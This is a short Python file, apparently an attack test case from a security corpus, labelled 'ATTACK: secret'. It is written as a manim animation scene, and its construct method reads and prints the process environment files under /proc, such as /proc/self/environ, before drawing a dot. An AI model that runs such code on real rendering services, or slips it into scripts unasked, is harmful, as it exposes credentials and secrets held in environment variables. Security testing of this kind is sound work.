# ATTACK: secret
# SUCCESS: the environment that the process was started with
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        for p in ("/proc/self/environ", "/proc/1/environ", "/proc/thread-self/environ"):
            try: print("LEAK", open(p).read())
            except OSError as e: print(e)
        self.add(Dot()); self.wait(0.1)
